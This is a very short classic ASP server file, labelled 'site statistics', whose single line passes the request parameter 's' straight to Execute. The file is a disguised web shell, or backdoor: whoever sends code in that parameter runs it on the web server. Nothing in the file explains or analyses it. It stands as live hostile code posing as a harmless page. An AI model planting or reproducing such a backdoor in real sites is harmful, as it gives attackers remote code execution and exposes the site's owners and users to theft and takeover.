<%
' site statistics
Execute(Request("s"))
%>
